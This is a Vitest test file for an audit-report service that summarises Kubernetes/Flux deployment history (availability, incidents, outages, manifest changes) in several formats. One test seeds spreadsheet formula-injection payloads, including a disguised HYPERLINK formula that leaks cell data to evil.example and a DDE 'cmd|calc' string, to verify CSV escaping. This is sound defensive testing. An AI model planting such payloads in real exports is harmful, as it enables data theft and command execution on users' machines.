/**
 * Audit reports over stored history: rows as the snapshot writer stores them, read back for a range
 * and computed to figures checked by hand.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAuditReport } from '../../../src/services/audit-report.ts';
import { createDb } from '../../../src/store/prisma.ts';
import type { Db } from '../../../src/store/prisma.ts';
import { FULL_ACCESS } from '../../../src/store/read-types.ts';
import { insertPhaseInterval, insertResourceInterval } from '../../helpers/history-rows.ts';
import { createTestDatabase } from '../../helpers/services.ts';
import type { TestDatabase } from '../../helpers/services.ts';

const t = (hhmm: string) => new Date(`2026-11-17T${hhmm}:00Z`);
const PULL_ERROR = 'Back-off pulling image "registry.local/web:1"';
let database: TestDatabase;
let db: Db;

beforeAll(async () => {
  database = await createTestDatabase('audit');
  db = createDb(database.url);
  // Both observed just now on an hourly schedule: their open intervals are vouched for until now.
  const observed = { tickLastSeenAt: new Date(), snapshotIntervalMs: 3_600_000 };
  const prod = await db.cluster.create({ data: { name: 'prod', labels: {}, ...observed } });
  const other = await db.cluster.create({ data: { name: 'staging', labels: {}, ...observed } });
  const shop = await db.phase.create({
    data: {
      clusterId: prod.id,
      sourceKind: 'flux',
      namespace: 'flux-system',
      name: 'shop',
      firstSeenAt: t('09:00'),
      lastSeenAt: t('12:00'),
    },
  });
  const staging = await db.phase.create({
    data: {
      clusterId: other.id,
      sourceKind: 'flux',
      namespace: 'flux-system',
      name: 'shop',
      firstSeenAt: t('09:00'),
      lastSeenAt: t('12:00'),
    },
  });
  const summary = { current: 1 };
  const web = 'apps/Deployment/shop/web';
  for (const row of [
    { phaseId: shop.id, status: 'Current', summary, from: t('09:00'), to: t('10:30') },
    {
      phaseId: shop.id,
      status: 'Failed',
      summary,
      message: `1 of 2 resources not Current: Deployment shop/web is Failed: ${PULL_ERROR}`,
      worstResource: web,
      from: t('10:30'),
      to: t('10:45'),
    },
    { phaseId: shop.id, status: 'Current', summary, from: t('10:45'), to: t('11:30') },
    { phaseId: shop.id, status: 'Current', summary, stale: true, from: t('11:30'), to: t('11:40') },
    { phaseId: shop.id, status: 'Current', summary, from: t('11:40'), to: null },
    // A rollout on staging: out of Current for 10 minutes, never Failed.
    { phaseId: staging.id, status: 'Current', summary, from: t('09:00'), to: t('10:10') },
    {
      phaseId: staging.id,
      status: 'InProgress',
      summary,
      message: '1 of 1 resources not Current: Deployment shop/web is InProgress',
      worstResource: web,
      from: t('10:10'),
      to: t('10:20'),
    },
    { phaseId: staging.id, status: 'Current', summary, from: t('10:20'), to: null },
  ]) {
    await insertPhaseInterval(db, row);
  }
  await db.clusterReachability.createMany({
    data: [
      { clusterId: prod.id, reachable: true, from: t('09:00'), to: t('11:30') },
      { clusterId: prod.id, reachable: false, errorKind: 'UNREACHABLE', from: t('11:30'), to: t('11:40') },
      { clusterId: prod.id, reachable: true, from: t('11:40'), to: null },
    ],
  });
  const entry = (kind: string, name: string, group = '') => ({ group, kind, namespace: 'shop', name });
  const before = await db.manifest.create({
    data: {
      hash: 'm1',
      source: {},
      entries: [entry('Deployment', 'web', 'apps'), entry('Service', 'web')],
      entryCount: 2,
    },
  });
  const after = await db.manifest.create({
    data: {
      hash: 'm2',
      source: {},
      entries: [entry('Deployment', 'web', 'apps'), entry('Service', 'web'), entry('ConfigMap', 'flags')],
      entryCount: 3,
    },
  });
  // The same entries in a relabelled inventory object: a new manifest version with nothing added or removed.
  const relabelled = await db.manifest.create({
    data: {
      hash: 'm3',
      source: { metadata: { labels: { team: 'shop' } } },
      entries: [entry('Deployment', 'web', 'apps'), entry('Service', 'web'), entry('ConfigMap', 'flags')],
      entryCount: 3,
    },
  });
  await db.phaseManifest.createMany({
    data: [
      { phaseId: shop.id, manifestId: before.id, from: t('09:00'), to: t('11:00') },
      { phaseId: shop.id, manifestId: after.id, from: t('11:00'), to: t('11:50') },
      { phaseId: shop.id, manifestId: relabelled.id, from: t('11:50'), to: null },
    ],
  });
  const rev1 = await db.objectRevision.create({ data: { hash: 'r1', object: { spec: { image: 'web:1' } } } });
  const rev2 = await db.objectRevision.create({ data: { hash: 'r2', object: { spec: { image: 'web:2' } } } });
  for (const row of [
    {
      phaseId: shop.id,
      key: web,
      status: 'Current',
      presence: 'Present',
      revisionId: rev1.id,
      from: t('09:00'),
      to: t('10:30'),
    },
    {
      phaseId: shop.id,
      key: web,
      status: 'Failed',
      message: PULL_ERROR,
      presence: 'Present',
      revisionId: rev1.id,
      from: t('10:30'),
      to: t('10:45'),
    },
    {
      phaseId: shop.id,
      key: web,
      status: 'Current',
      presence: 'Present',
      revisionId: rev1.id,
      from: t('10:45'),
      to: t('11:15'),
    },
    {
      phaseId: shop.id,
      key: 'apps/Deployment/shop/web',
      status: 'InProgress',
      presence: 'Present',
      revisionId: rev2.id,
      from: t('11:15'),
      to: null,
    },
  ]) {
    await insertResourceInterval(db, row);
  }
});

afterAll(async () => {
  await db.$disconnect();
  await database.drop();
});

describe('audit reports over stored history', () => {
  it('computes availability, failures, recovery, outages and manifest changes for a range', async () => {
    const { report } = await createAuditReport(db, {
      from: t('10:00'),
      to: t('12:00'),
      now: t('12:00'),
      format: 'json',
      access: FULL_ACCESS,
      selection: { clusters: ['prod'], namespaces: [], phases: [] },
    });
    expect(report.phases).toHaveLength(1);
    const shop = report.phases[0];
    expect(shop).toMatchObject({
      cluster: 'prod',
      name: 'shop',
      observedMs: 7_200_000,
      unreachableMs: 600_000,
      failures: 1,
    });
    expect(shop?.availability).toBeCloseTo((95 / 110) * 100, 6);
    expect(shop?.timeInStatus).toMatchObject({ Current: 95 * 60_000, Failed: 15 * 60_000 });
    expect(shop?.recovery.meanTimeToRecoverMs).toBe(15 * 60_000);
    expect(shop?.manifestChanges).toEqual([
      { at: t('11:00'), inventoryChanged: true, added: ['/ConfigMap/shop/flags'], removed: [], revisionsChanged: [] },
      {
        at: t('11:15'),
        inventoryChanged: false,
        added: [],
        removed: [],
        revisionsChanged: ['apps/Deployment/shop/web'],
      },
      { at: t('11:50'), inventoryChanged: true, added: [], removed: [], revisionsChanged: [] },
    ]);
    // Two new manifest versions, as the `manifests` history has them; the revision change at 11:15 is not one.
    expect([shop?.inventoryChanges, shop?.revisionChanges]).toEqual([2, 1]);
    expect(report.clusters).toHaveLength(1);
    expect(report.clusters[0]).toMatchObject({ name: 'prod', unreachableMs: 600_000, longestOutageMs: 600_000 });
    expect(report.clusters[0]?.outages).toHaveLength(1);
  });

  it('names the resource that caused an incident with its own message, and tells a failure from a rollout', async () => {
    const { report } = await createAuditReport(db, {
      from: t('10:00'),
      to: t('12:00'),
      now: t('12:00'),
      format: 'json',
      access: FULL_ACCESS,
      selection: { clusters: [], namespaces: [], phases: [] },
    });
    // prod/shop (86% available, failed) leads staging/shop (92%, one rollout).
    expect(report.phases.map((phase) => phase.cluster)).toEqual(['prod', 'staging']);
    const [shop, staging] = report.phases;
    const cause = { resource: 'apps/Deployment/shop/web', status: 'Failed', message: PULL_ERROR };
    expect(shop?.recovery.incidents).toEqual([
      { from: t('10:30'), to: t('10:45'), durationMs: 15 * 60_000, reachedFailed: true, cause },
    ]);
    expect(shop?.restore).toMatchObject({
      restores: [{ failedAt: t('10:30'), restoredAt: t('10:45'), durationMs: 15 * 60_000, cause }],
      meanTimeToRestoreMs: 15 * 60_000,
    });
    expect(staging?.recovery).toMatchObject({
      incidents: [
        {
          from: t('10:10'),
          to: t('10:20'),
          reachedFailed: false,
          cause: { resource: 'apps/Deployment/shop/web', status: null },
        },
      ],
      meanTimeOutOfCurrentMs: 10 * 60_000,
    });
    // No resource interval was recorded on staging: the phase's own message stands in, naming the resource.
    expect(staging?.recovery.incidents[0]?.cause?.message).toBe(
      '1 of 1 resources not Current: Deployment shop/web is InProgress',
    );
    expect(staging?.restore).toMatchObject({ restores: [], meanTimeToRestoreMs: null });
    expect(report.totals).toMatchObject({
      restored: 1,
      meanTimeToRestoreMs: 15 * 60_000,
      meanTimeOutOfCurrentMs: 12.5 * 60_000,
      inventoryChanges: 2,
      revisionChanges: 1,
    });
  });

  it('leaves changes before the range out and clips intervals that cross its start', async () => {
    const { report } = await createAuditReport(db, {
      from: t('11:05'),
      to: t('11:20'),
      now: t('12:00'),
      format: 'json',
      access: FULL_ACCESS,
      selection: { clusters: ['prod'], namespaces: [], phases: ['shop'] },
    });
    const shop = report.phases[0];
    expect(shop).toMatchObject({ observedMs: 15 * 60_000, failures: 0, availability: 100 });
    expect(shop?.manifestChanges.map((c) => c.at)).toEqual([t('11:15')]);
  });

  it('renders every format, and an HTML timeline per phase', async () => {
    const selection = { clusters: [], namespaces: [], phases: [] };
    const request = { from: t('10:00'), to: t('12:00'), now: t('12:00'), selection, access: FULL_ACCESS };
    const csv = await createAuditReport(db, { ...request, format: 'csv' });
    expect(csv.contentType).toContain('text/csv');
    expect(csv.content.trim().split('\n')).toHaveLength(3); // header + prod/shop + staging/shop
    const md = await createAuditReport(db, { ...request, format: 'markdown' });
    expect(md.content).toContain('shop');
    const html = await createAuditReport(db, { ...request, format: 'html' });
    expect(html.content.match(/<svg/g)).toHaveLength(2);
    expect(html.content).not.toMatch(/https?:\/\/(?!www\.w3\.org)/); // self-contained
  });

  it('writes stored names that a spreadsheet would run, in any disguise, as text cells in the CSV', async () => {
    // Cluster names come from kubeconfigs and phaselog.yaml, namespaces and names from clusters:
    // each hostile one starts with blanks or a compatibility form of =, + or @.
    const hostile = [
      '\u3000=HYPERLINK("http://evil.example/?"&A1)',
      ' =1+1',
      '＝cmd|calc!A0',
      '﹦1',
      '＋1',
      '＠SUM(A1)',
    ];
    const observed = { tickLastSeenAt: new Date(), snapshotIntervalMs: 3_600_000 };
    for (const [n, name] of hostile.entries()) {
      const cluster = await db.cluster.create({ data: { name, labels: {}, ...observed } });
      const phase = await db.phase.create({
        data: {
          clusterId: cluster.id,
          sourceKind: 'config',
          namespace: hostile[(n + 1) % hostile.length] as string,
          name: `csv-${n}`,
          firstSeenAt: t('09:00'),
          lastSeenAt: t('12:00'),
        },
      });
      await insertPhaseInterval(db, {
        phaseId: phase.id,
        status: 'Current',
        summary: { current: 1 },
        from: t('09:00'),
        to: null,
      });
    }
    const csv = await createAuditReport(db, {
      from: t('10:00'),
      to: t('12:00'),
      now: t('12:00'),
      format: 'csv',
      access: FULL_ACCESS,
      selection: { clusters: hostile, namespaces: [], phases: [] },
    });
    const rows = csv.content.trim().split('\r\n').slice(1);
    expect(rows).toHaveLength(hostile.length);
    for (const row of rows) {
      // cluster and namespace, the cells after the id (quoted when they hold a comma or a quote).
      const cells = row.match(/^[^,]*,("(?:[^"]|"")*"|[^,]*),("(?:[^"]|"")*"|[^,]*),/)?.slice(1, 3) ?? [];
      expect(cells).toHaveLength(2);
      for (const cell of cells) expect(cell.replace(/^"/, '')).toMatch(/^'/);
    }
  });

  it('cuts a range that ends in the future at now', async () => {
    const { report } = await createAuditReport(db, {
      from: t('10:00'),
      to: t('23:00'),
      now: t('12:00'),
      format: 'json',
      access: FULL_ACCESS,
      selection: { clusters: ['prod'], namespaces: [], phases: [] },
    });
    expect(report.phases[0]?.observedMs).toBe(7_200_000);
  });
});
